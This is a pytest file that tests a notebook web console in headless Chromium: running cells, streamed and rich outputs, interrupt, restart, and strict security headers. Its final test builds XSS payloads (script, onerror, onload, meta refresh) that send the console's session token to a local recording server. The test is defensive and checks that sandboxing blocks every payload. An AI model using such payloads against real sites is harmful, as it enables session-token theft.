"""The web console at / in a real headless Chromium: create a notebook, run cells, see their output.

Needs Debian's `chromium` and `chromium-driver` (./dev.sh test installs them when run as root) and
selenium; without them the test is skipped and says why. A screenshot of the page after the run
is saved to tests/artifacts/web_console.png.
"""

import http.server
import shutil
import threading
import time
import urllib.request
from pathlib import Path

import pytest

from tests.conftest import wait_for

pytestmark = [pytest.mark.slow, pytest.mark.timeout(120)]

ARTIFACTS = Path(__file__).resolve().parent / "artifacts"
CHROMIUM_FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage",
                  "--window-size=1280,900")


@pytest.fixture
def browser(tmp_path):
    webdriver = pytest.importorskip("selenium.webdriver", reason="selenium is not installed")
    from selenium.webdriver.chrome.service import Service

    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    driver_path = shutil.which("chromedriver")
    if not chromium or not driver_path:
        pytest.skip("headless Chromium is not installed: apt-get install chromium chromium-driver "
                    "(./dev.sh test does it when run as root)")
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    options.add_argument(f"--user-data-dir={tmp_path / 'chromium-profile'}")
    driver = webdriver.Chrome(service=Service(driver_path), options=options)
    try:
        yield driver
    finally:
        driver.quit()  # stops chromedriver and the browser it started


@pytest.fixture
def leak_server():
    """A loopback HTTP server that records every request: where a stolen token would be sent."""
    requests = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def open_console(browser, url: str):
    """Load the console at `url` and wait until its script is ready; (find_element, a 20 s wait)."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    wait = WebDriverWait(browser, 20, poll_frequency=0.05)
    page = browser.find_element
    browser.get(url)
    wait.until(lambda b: page(By.TAG_NAME, "body").get_attribute("data-ready") == "1")
    return page, wait


def test_the_page_and_its_files_come_with_a_strict_content_security_policy(service):
    for path in ("/", "/console/static/console.js", "/console/static/console.css"):
        with urllib.request.urlopen(service.api_url + path) as response:
            policy = response.headers["Content-Security-Policy"]
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert response.headers["Referrer-Policy"] == "no-referrer"
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["default-src"] == "'none'" and directives["script-src"] == "'self'"
        assert directives["frame-ancestors"] == "'none'" and "unsafe-inline" not in policy


def test_a_cell_typed_in_the_browser_runs_and_its_output_streams_in(service, client, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    before = {nb["id"] for nb in client.notebooks()}
    page, wait = open_console(browser, service.api_url + "/")
    assert page(By.CSS_SELECTOR, ".brand").value_of_css_property("color") == "rgba(243, 119, 38, 1)", \
        "console.css is allowed by the page's Content-Security-Policy"
    page(By.ID, "new-notebook").click()
    wait.until(lambda b: page(By.ID, "state").get_attribute("data-state") == "idle")
    created = {nb["id"] for nb in client.notebooks()} - before
    assert len(created) == 1
    notebook = client.notebook(created.pop())
    try:
        code = page(By.ID, "code")

        def outputs() -> str:
            return "\n".join(e.text for e in browser.find_elements(By.CSS_SELECTOR, ".cell .outputs"))

        # output streams in while the cell runs (the page reads the SSE feed)
        code.send_keys("import time, math\nprint('hello from the browser', flush=True)\ntime.sleep(2)\n"
                       "print('done')\nmath.pi")
        code.send_keys(Keys.SHIFT, Keys.ENTER)
        wait.until(lambda b: "hello from the browser" in outputs())
        assert "done" not in outputs()
        assert page(By.ID, "state").get_attribute("data-state") == "busy"
        wait.until(lambda b: "3.141592653589793" in outputs())
        assert "done" in outputs()
        assert code.get_attribute("value") == ""

        # Tab completes from the notebook's namespace
        code.send_keys("math.sq")
        code.send_keys(Keys.TAB)
        wait.until(lambda b: code.get_attribute("value") == "math.sqrt")
        code.send_keys("(2)")
        code.send_keys(Keys.SHIFT, Keys.ENTER)
        wait.until(lambda b: "1.4142135623730951" in outputs())

        # HTML and PNG outputs render; an error shows its traceback
        browser.execute_script(
            "document.getElementById('code').value = arguments[0];",
            "import base64\n"
            "class Rich:\n"
            "    def _repr_html_(self):\n"
            "        return '<table id=\"rich\"><tr><td>rendered <b>html</b></td></tr></table>'\n"
            "display(Rich())\n"
            "class Dot:\n"
            "    def _repr_png_(self):\n"
            "        return base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ"
            "DwAEhQGAhKmMIQAAAABJRU5ErkJggg==')\n"
            "display(Dot())\n"
            "def broken():\n"
            "    return undefined_name\n"
            "broken()")
        code.send_keys(Keys.SHIFT, Keys.ENTER)
        wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, ".output.error pre"))
        browser.switch_to.frame(page(By.CSS_SELECTOR, ".output iframe.html"))  # HTML renders in its frame
        try:
            assert page(By.CSS_SELECTOR, "#rich b").text == "html"
            assert page(By.CSS_SELECTOR, "#rich td").value_of_css_property("border-top-style") == "solid", \
                "output.css is loaded into the frame"
        finally:
            browser.switch_to.default_content()
        image = page(By.CSS_SELECTOR, ".output img")
        assert image.get_attribute("src").startswith("data:image/png;base64,")
        assert browser.execute_script("return arguments[0].naturalWidth", image) == 1
        traceback = page(By.CSS_SELECTOR, ".output.error pre").text
        assert "in broken" in traceback and "NameError: name 'undefined_name' is not defined" in traceback

        # the Interrupt button stops a running cell
        code.send_keys("time.sleep(60)")
        code.send_keys(Keys.SHIFT, Keys.ENTER)
        wait.until(lambda b: page(By.ID, "state").get_attribute("data-state") == "busy")
        time.sleep(0.3)
        page(By.ID, "interrupt").click()
        wait.until(lambda b: "KeyboardInterrupt" in outputs())
        wait.until(lambda b: page(By.ID, "state").get_attribute("data-state") == "idle")

        ARTIFACTS.mkdir(exist_ok=True)
        browser.execute_script("document.getElementById('cells').scrollTop = 0")
        browser.save_screenshot(str(ARTIFACTS / "web_console.png"))
        assert (ARTIFACTS / "web_console.png").stat().st_size > 10_000

        # Restart gives a fresh namespace
        page(By.ID, "restart").click()
        wait.until(lambda b: page(By.ID, "prompt").text == "In [1]:")
        wait_for(lambda: notebook.refresh()["worker"] is not None, 20, "the restarted notebook's worker")
        code.send_keys("'math' in dir()")
        code.send_keys(Keys.SHIFT, Keys.ENTER)
        wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, ".cell")[-1].get_attribute("data-status") == "ok")
        assert browser.find_elements(By.CSS_SELECTOR, ".cell")[-1].text == "In [1]:\n'math' in dir()\nFalse"
    except Exception:
        ARTIFACTS.mkdir(exist_ok=True)
        browser.save_screenshot(str(ARTIFACTS / "web_console_failure.png"))
        raise
    finally:
        notebook.close()


def test_the_console_works_with_a_token_given_in_the_url_fragment(private_service, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    private_service.start_supervisor(pool=1)
    private_service.start_api(token="console-token")
    page, wait = open_console(browser, private_service.api_url + "/#token=console-token")
    assert "token" not in browser.current_url, "the token is taken out of the address bar"
    page(By.ID, "new-notebook").click()
    wait.until(lambda b: page(By.ID, "state").get_attribute("data-state") == "idle")
    code = page(By.ID, "code")
    code.send_keys("print('behind a token')")
    code.send_keys(Keys.SHIFT, Keys.ENTER)
    wait.until(lambda b: "behind a token" in " ".join(e.text for e in b.find_elements(By.CSS_SELECTOR,
                                                                                     ".cell .outputs")))
    page(By.ID, "delete").click()


def test_no_script_in_an_output_runs_with_the_consoles_origin(private_service, browser, leak_server):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    leak_url, leaked = leak_server
    private_service.start_supervisor(pool=1)
    private_service.start_api(token="console-token")
    page, wait = open_console(browser, private_service.api_url + "/#token=console-token")
    page(By.ID, "new-notebook").click()
    wait.until(lambda b: page(By.ID, "state").get_attribute("data-state") == "idle")
    title = browser.title
    # what a hostile output would do: send the token away, and write into the console's page
    steal = (f"new Image().src='{leak_url}/token?'+encodeURIComponent(sessionStorage.getItem('taskkernel-token'));"
             "try{top.document.title='pwned'}catch(e){};try{top.document.body.dataset.pwned='1'}catch(e){};"
             "document.title='pwned';document.body.insertAdjacentHTML('beforeend','<p id=ran>ran</p>')")
    html = (f'<p id="static">static html</p><script>{steal}</script><img src="data:," onerror="{steal}">'
            f'<svg onload="{steal}"></svg><meta http-equiv="refresh" content="0;url={leak_url}/refresh">')
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="red"/>'
           f'<script><![CDATA[{steal}]]></script></svg>')
    code = (f"class Html:\n    def _repr_html_(self):\n        return {html!r}\n"
            f"class Svg:\n    def _repr_svg_(self):\n        return {svg!r}\n"
            f"class Js:\n    def _repr_javascript_(self):\n        return {steal!r}\n"
            "display(Html()); display(Svg()); display(Js())")
    browser.execute_script("document.getElementById('code').value = arguments[0];", code)
    page(By.ID, "code").send_keys(Keys.SHIFT, Keys.ENTER)
    wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, ".cell[data-status='ok'] pre.javascript"))
    time.sleep(1)  # what a script would send, it would have sent by now

    assert leaked == [], "nothing reached the leak server"
    assert browser.title == title and page(By.TAG_NAME, "body").get_attribute("data-pwned") is None
    assert not browser.find_elements(By.ID, "ran")
    frame = page(By.CSS_SELECTOR, ".output iframe.html")
    assert frame.get_attribute("sandbox") == "", "no allow-scripts, no allow-same-origin"
    svg_image = page(By.CSS_SELECTOR, ".output img")
    assert svg_image.get_attribute("src").startswith("data:image/svg+xml")
    wait.until(lambda b: b.execute_script("return arguments[0].naturalWidth", svg_image) == 40)
    assert page(By.CSS_SELECTOR, "pre.javascript").text == steal, "JavaScript is shown, not run"
    browser.switch_to.frame(frame)
    try:
        assert page(By.ID, "static").text == "static html"
        assert not browser.find_elements(By.ID, "ran"), "the output's own scripts did not run either"
    finally:
        browser.switch_to.default_content()
